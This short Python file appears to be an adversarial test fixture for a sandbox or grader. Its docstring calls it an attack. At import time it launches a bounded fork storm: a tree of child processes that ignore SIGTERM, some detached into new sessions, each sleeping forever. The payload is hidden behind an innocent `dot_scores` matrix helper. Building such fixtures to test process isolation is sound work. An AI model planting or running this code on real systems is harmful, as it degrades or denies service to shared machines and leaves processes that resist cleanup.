"""Attack: a (bounded) fork storm at import time: a tree of SIGTERM-proof sleepers, some in new sessions."""

import os
import signal
import time

import numpy as np


def _storm(depth):
    for _ in range(4):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            if depth % 2:
                os.setsid()
            if depth < 3:
                _storm(depth + 1)
            while True:
                time.sleep(1)


_storm(0)


def dot_scores(Q, K):
    return np.asarray(Q) @ np.swapaxes(np.asarray(K), -1, -2)
